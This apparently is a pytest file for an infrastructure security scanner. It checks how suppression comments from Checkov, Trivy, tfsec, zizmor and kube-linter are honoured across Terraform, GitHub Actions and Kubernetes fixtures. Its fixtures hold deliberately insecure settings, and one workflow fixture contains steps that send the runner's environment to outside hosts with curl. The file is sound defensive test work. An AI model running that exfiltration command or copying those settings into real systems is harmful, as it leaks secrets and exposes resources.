"""What was accepted in the words of other scanners. Checkov's and zizmor's cases are as those tools decide them."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import yaml
from harness import REPOSITORY, Run, ends

from guardrail.exceptions.peers import MAX_COMMENTS, NOT_ENOUGH, find_remarks

RULES = REPOSITORY / "rules"

Guardrail = Callable[..., Run]
Found = dict[tuple[str, str], str | None]


@pytest.fixture
def scanned(findings_in: Callable[..., list[dict[str, Any]]]) -> Callable[..., Found]:
    """(rule, resource) -> why it is suppressed, or None; of these rules."""

    def scan(files: dict[str, str], *rules: str) -> Found:
        found: Found = {}
        for finding in findings_in(files, *rules):
            suppression = finding["suppression"]
            found[finding["rule"], finding["resource"]] = suppression["reason"] if suppression else None
        return found

    return scan


# Checkov --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("inside", "reason"),
    [
        ("#checkov:skip=CKV_AWS_20:a web site", "checkov:skip=CKV_AWS_20: a web site"),
        ("# checkov:skip=CKV_AWS_20", "checkov:skip=CKV_AWS_20"),
        ("// checkov:skip= CKV_AWS_20 as it is", "checkov:skip=CKV_AWS_20"),
        ("# checkov:skip=CKV_AWS_18,CKV_AWS_20: two", "checkov:skip=CKV_AWS_18,CKV_AWS_20: two"),
        ("# bridgecrew:skip=CKV_AWS_20", "checkov:skip=CKV_AWS_20"),
        ("# for now: checkov:skip=CKV_AWS_20", "checkov:skip=CKV_AWS_20"),
        ("versioning {\n# checkov:skip=CKV_AWS_20:deep\nenabled = true\n}", "checkov:skip=CKV_AWS_20: deep"),
        ("# checkov:skip=CKV_AWS_19", None),
        ("# checkov:skip = CKV_AWS_20", None),
        ("# checkov:skip=all", None),
        ('bucket = "checkov:skip=CKV_AWS_20"', None),
    ],
)
def test_checkov_in_a_block(inside: str, reason: str | None, scanned: Callable[..., Found]) -> None:
    text = f'resource "aws_s3_bucket" "site" {{\n{inside}\nacl = "public-read"\n}}\n'
    assert scanned({"main.tf": text}, "store-not-public") == {("store-not-public", "aws_s3_bucket.site"): reason}


def test_checkov_above_a_block_is_in_none(scanned: Callable[..., Found]) -> None:
    text = '# checkov:skip=CKV_AWS_20\nresource "aws_s3_bucket" "site" {\nacl = "public-read"\n}\n'
    assert scanned({"main.tf": text}, "store-not-public") == {("store-not-public", "aws_s3_bucket.site"): None}


def test_checkov_speaks_of_one_block_only(scanned: Callable[..., Found]) -> None:
    text = """
    resource "aws_s3_bucket" "site" {
      # checkov:skip=CKV_AWS_20: a web site
      acl = "public-read"
    }
    resource "aws_s3_bucket" "other" {
      acl = "public-read"
    }
    """
    found = scanned({"main.tf": text}, "store-not-public")
    assert found["store-not-public", "aws_s3_bucket.site"] == "checkov:skip=CKV_AWS_20: a web site"
    assert found["store-not-public", "aws_s3_bucket.other"] is None


def test_what_is_said_of_a_bucket_holds_for_what_stands_elsewhere(scanned: Callable[..., Found]) -> None:
    """The value that is wrong stands in another file, the finding with it."""
    files = {
        "main.tf": """
            variable "acl" {}
            resource "aws_s3_bucket" "site" {
              # checkov:skip=CKV_AWS_20: a web site
              acl = var.acl
            }
        """,
        "terraform.tfvars": 'acl = "public-read"\n',
    }
    assert scanned(files, "store-not-public") == {
        ("store-not-public", "aws_s3_bucket.site"): "checkov:skip=CKV_AWS_20: a web site"
    }


MODULE = 'resource "aws_s3_bucket" "site" {\n  acl = "public-read"\n}\n'


@pytest.mark.parametrize("comment", ["# checkov:skip=CKV_AWS_20", "#trivy:ignore:AVD-AWS-0092"])
def test_a_module_call_speaks_for_the_module(comment: str, scanned: Callable[..., Found]) -> None:
    call = f'{comment if "trivy" in comment else ""}\nmodule "a" {{\n{comment}\nsource = "./m"\n}}\n'
    (reason,) = scanned({"main.tf": call, "m/main.tf": MODULE}, "store-not-public").values()
    assert reason == comment.lstrip("# ")


def test_but_not_for_other_calls_of_the_module(scanned: Callable[..., Found]) -> None:
    call = 'module "a" {\n# checkov:skip=CKV_AWS_20\nsource = "./m"\n}\nmodule "b" {\nsource = "./m"\n}\n'
    (reason,) = scanned({"main.tf": call, "m/main.tf": MODULE}, "store-not-public").values()
    assert reason is None


def test_checkov_in_a_step(scanned: Callable[..., Found]) -> None:
    text = """\
    on: push
    permissions: {}
    jobs:
      a:
        runs-on: ubuntu-latest
        steps:
          - run: curl -d "$(env)" https://collect.example.com
            # checkov:skip=CKV_GHA_3:expected
          - run: curl -d "$(env)" https://other.example.com
          # checkov:skip=CKV_GHA_3:so is this
          - run: curl -d "$(env)" https://third.example.com
    """
    found = scanned({".github/workflows/ci.yml": text}, "script-secrets-not-sent")
    assert [reason for _, reason in sorted(found.items())] == [
        "checkov:skip=CKV_GHA_3: expected", None, "checkov:skip=CKV_GHA_3: so is this",
    ]  # fmt: skip


def test_checkov_in_annotations(scanned: Callable[..., Found]) -> None:
    text = """\
    apiVersion: v1
    kind: Pod
    metadata:
      name: a
      annotations:
        checkov.io/skip1: CKV_K8S_20=I don't care
    spec:
      containers: [{name: a, image: nginx}]
    ---
    apiVersion: apps/v1
    kind: Deployment
    metadata: {name: b}
    spec:
      selector: {matchLabels: {a: b}}
      template:
        metadata:
          labels: {a: b}
          annotations: {checkov.io/skip1: CKV_K8S_20}
        spec:
          containers: [{name: a, image: nginx}]
    """
    assert scanned({"pod.yaml": text}, "container-privilege-escalation") == {
        ("container-privilege-escalation", "Pod/default/a"): "checkov.io/skip1: CKV_K8S_20: I don't care",
        ("container-privilege-escalation", "Deployment/default/b"): None,
    }


POLICY = """
data "aws_iam_policy_document" "a" {
  %s
  statement {
    actions   = ["secretsmanager:GetSecretValue"]
    resources = ["*"]
  }
}
resource "aws_iam_policy" "a" {
  policy = data.aws_iam_policy_document.a.json
}
"""


@pytest.mark.parametrize(("check", "counts"), [("CKV_AWS_108", True), ("CKV_AWS_356", False)])
def test_who_accepts_less_has_not_accepted_all(check: str, counts: bool, scanned: Callable[..., Found]) -> None:
    found = scanned({"main.tf": POLICY % f"# checkov:skip={check}"}, "grant-data-access-bounded")
    assert [reason is not None for reason in found.values()] == [counts]


def _load(path: Path) -> dict[str, Any]:
    loaded: dict[str, Any] = yaml.safe_load(path.read_text())
    return loaded


def test_what_is_not_enough_is_of_rules_that_there_are() -> None:
    rules = {rule["id"]: rule for rule in map(_load, RULES.rglob("*.yaml"))}
    for rule, checks in NOT_ENOUGH.items():
        assert checks < set(rules[rule]["replaces"]["checkov"])


# Trivy, and tfsec -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("comment", "reason"),
    [
        ("trivy:ignore:AVD-AWS-0031", "trivy:ignore:AVD-AWS-0031"),
        ("trivy:ignore:aws-0031", "trivy:ignore:aws-0031"),
        ("tfsec:ignore:aws-ecr-enforce-immutable-repository", "tfsec:ignore:aws-ecr-enforce-immutable-repository"),
        ("tfsec:ignore:AWS078", "tfsec:ignore:AWS078"),
        ("tfsec:ignore:aws-s3-enable-versioning tfsec:ignore:AWS078", "tfsec:ignore:AWS078"),
        ("tfsec:ignore:AVD-AWS-0031:TODO later", "tfsec:ignore:AVD-AWS-0031:TODO"),
        ("trivy:ignore:aws-ecr-*", "trivy:ignore:aws-ecr-*"),
        ("trivy:ignore:*", "trivy:ignore:*"),
        ("trivy:ignore:AVD-AWS-0031:exp:2026-06-15", "trivy:ignore:AVD-AWS-0031:exp:2026-06-15"),
        ("trivy:ignore:AVD-AWS-0031:exp:2026-06-14", None),
        ("trivy:ignore:AVD-AWS-0031:exp:2026-06-31", None),
        ("trivy:ignore:AVD-AWS-0031:ws:dev", None),
        ("trivy:ignore:AVD-AWS-0031[name=a]", None),
        ("trivy:ignore:AVD-AWS-0032", None),
        ("trivy:ignore:no-such-thing", None),
    ],
)
@pytest.mark.parametrize("place", ["above the block", "at its header", "above the line", "behind the line"])
def test_trivy(comment: str, reason: str | None, place: str, scanned: Callable[..., Found]) -> None:
    at = [f" # {comment}" if place == here else "" for here in ("at its header", "behind the line")]
    above = [f"# {comment}\n" if place == here else "" for here in ("above the block", "above the line")]
    setting = f'{above[1]}image_tag_mutability = "MUTABLE"{at[1]}'
    text = f'{above[0]}resource "aws_ecr_repository" "a" {{{at[0]}\n{setting}\n}}\n'
    rule = "registry-tags-immutable"
    assert scanned({"main.tf": text}, rule) == {(rule, "aws_ecr_repository.a"): reason}


def test_trivy_behind_one_of_several(scanned: Callable[..., Found]) -> None:
    text = """
    resource "aws_security_group" "a" {
      ingress {
        from_port   = 22
        to_port     = 22
        protocol    = "tcp"
        cidr_blocks = ["0.0.0.0/0"] #trivy:ignore:AVD-AWS-0107
      }
      ingress {
        from_port   = 22
        to_port     = 22
        protocol    = "tcp"
        cidr_blocks = ["0.0.0.0/0"]
      }
    }
    """
    found = scanned({"main.tf": text}, "network-ssh-closed")
    assert found == {("network-ssh-closed", "aws_security_group.a"): None}


def test_trivy_within_what_a_finding_points_at(scanned: Callable[..., Found]) -> None:
    """Trivy tells of the setting, guardrail of the cluster."""
    text = """
    resource "aws_ecs_cluster" "a" {
      name = "a"
      setting {
        name  = "containerInsights"
        value = "disabled" #tfsec:ignore:aws-ecs-enable-container-insight
      }
    }
    """
    assert scanned({"main.tf": text}, "container-insights") == {
        ("container-insights", "aws_ecs_cluster.a"): "tfsec:ignore:aws-ecs-enable-container-insight"
    }


# zizmor ---------------------------------------------------------------------------------------------------------

STEP = """\
on: push
permissions: {{}}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - name: Get the code{behind_name}
        {above_uses}
        uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683{behind_uses}
        with:
          fetch-depth: 0{behind_with}
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683{next_step}
"""


@pytest.mark.parametrize("place", ["behind_name", "above_uses", "behind_uses", "behind_with", "next_step"])
def test_zizmor_anywhere_in_a_step(place: str, scanned: Callable[..., Found]) -> None:
    places = dict.fromkeys(("behind_name", "above_uses", "behind_uses", "behind_with", "next_step"), "")
    comment = " # zizmor: ignore[cache-poisoning, artipacked] - needed to push"
    text = STEP.format(**{**places, place: comment.strip() if place == "above_uses" else comment})
    found = scanned({".github/workflows/ci.yml": text}, "checkout-credentials-not-kept")
    reasons = [reason for _, reason in sorted(found.items())]
    words = "zizmor: ignore[cache-poisoning, artipacked]: needed to push"
    assert reasons == ([None, words] if place == "next_step" else [words, None])


def test_zizmor_on_triggers(scanned: Callable[..., Found]) -> None:
    text = """\
    on: # zizmor: ignore[dangerous-triggers] runs nothing of theirs
      pull_request_target:
    permissions: {}
    jobs:
      a:
        runs-on: ubuntu-latest
        steps: [{run: make}]
    """
    (reason,) = scanned({".github/workflows/ci.yml": text}, "pipeline-triggers-contained").values()
    assert reason == "zizmor: ignore[dangerous-triggers]: runs nothing of theirs"


# kube-linter ----------------------------------------------------------------------------------------------------

DEPLOYMENT = """\
apiVersion: apps/v1
kind: Deployment
metadata:
  name: {name}
  annotations: {{{annotations}}}
spec:
  selector: {{matchLabels: {{a: b}}}}
  template:
    metadata: {{labels: {{a: b}}}}
    spec:
      containers: [{{name: a, image: nginx}}]
"""


@pytest.mark.parametrize(
    ("annotations", "reason"),
    [
        (
            'ignore-check.kube-linter.io/run-as-non-root: "needs root"',
            "ignore-check.kube-linter.io/run-as-non-root: needs root",
        ),
        ('kube-linter.io/ignore-all: ""', "kube-linter.io/ignore-all"),
        ("ignore-check.kube-linter.io/privileged-container: no", None),
        ("ignore-check.kube-linter.io/: no", None),
    ],
)
def test_kube_linter(annotations: str, reason: str | None, scanned: Callable[..., Found]) -> None:
    text = DEPLOYMENT.format(name="a", annotations=annotations) + "---\n" + DEPLOYMENT.format(name="b", annotations="")
    assert scanned({"a.yaml": text}, "container-run-as-root") == {
        ("container-run-as-root", "Deployment/default/a"): reason,
        ("container-run-as-root", "Deployment/default/b"): None,
    }


# All of them ----------------------------------------------------------------------------------------------------


def test_can_be_switched_off(tmp_path: Path, scanned: Callable[..., Found]) -> None:
    text = 'resource "aws_s3_bucket" "site" {\n# checkov:skip=CKV_AWS_20\nacl = "public-read"\n}\n'
    files = {"main.tf": text, "guardrail.yaml": "peer_ignores: false\n"}
    assert scanned(files, "store-not-public") == {("store-not-public", "aws_s3_bucket.site"): None}


def test_our_own_come_first(scanned: Callable[..., Found]) -> None:
    text = """
    # guardrail:ignore store-not-public reason="ours"
    resource "aws_s3_bucket" "site" {
      # checkov:skip=CKV_AWS_20: theirs
      acl = "public-read"
    }
    """
    assert scanned({"main.tf": text}, "store-not-public") == {("store-not-public", "aws_s3_bucket.site"): "ours"}


def test_suppressed_is_shown_with_its_place(tmp_path: Path, guardrail: Guardrail) -> None:
    (tmp_path / "main.tf").write_text(
        'resource "aws_s3_bucket" "site" {\n  # checkov:skip=CKV_AWS_20: a web site\n  acl = "public-read"\n}\n'
    )
    done = guardrail("scan", tmp_path, "-f", "json", "--rule", "store-not-public")
    (finding,) = json.loads(done.out)["findings"]
    assert done.code == 0
    assert finding["suppression"] == {
        "by": "inline", "reason": "checkov:skip=CKV_AWS_20: a web site", "file": "main.tf", "line": 2, "until": None,
    }  # fmt: skip


def test_nothing_is_said_of_what_suppresses_nothing(tmp_path: Path, guardrail: Guardrail) -> None:
    text = "locals {\n  # checkov:skip=CKV_NO_1,CKV_AWS_20: wrong\n  a = 1 #trivy:ignore:\n}\n"
    (tmp_path / "main.tf").write_text(text)
    report = json.loads(guardrail("scan", tmp_path, "-f", "json").out)
    assert [(finding["rule"], finding["message"]) for finding in report["findings"]] == []


def test_hostile_comments_take_no_time() -> None:
    lines = [
        "# checkov:skip=" + "A," * 990, "#" * 2000, "# " * 999 + ":skip=", "# zizmor: ignore[" + "a" * 1900,
        "# trivy:ignore:" + "*a" * 900, "#" + " tfsec:ignore:AWS078" * 90, "x" * 50_000 + "# checkov:skip=A",
    ]  # fmt: skip
    with ends(20):
        found = find_remarks("\n".join(lines * 200), "main.tf")
    assert MAX_COMMENTS <= len(found) < MAX_COMMENTS + 200


def test_dates_are_held_against_today() -> None:
    (remark,) = find_remarks("a = 1 # trivy:ignore:AVD-AWS-0031:exp:2026-06-15", "main.tf")
    assert remark.until is not None
    assert date.fromisoformat(remark.until) == date(2026, 6, 15)


def test_a_comment_comes_before_the_scanners_configuration(scanned: Callable[..., Found]) -> None:
    text = 'resource "aws_s3_bucket" "site" {\n# checkov:skip=CKV_AWS_20: this one\nacl = "public-read"\n}\n'
    files = {"main.tf": text, ".checkov.yaml": "skip-check: [CKV_AWS_20]  # all of them\n"}
    reason = "checkov:skip=CKV_AWS_20: this one"
    assert scanned(files, "store-not-public") == {("store-not-public", "aws_s3_bucket.site"): reason}
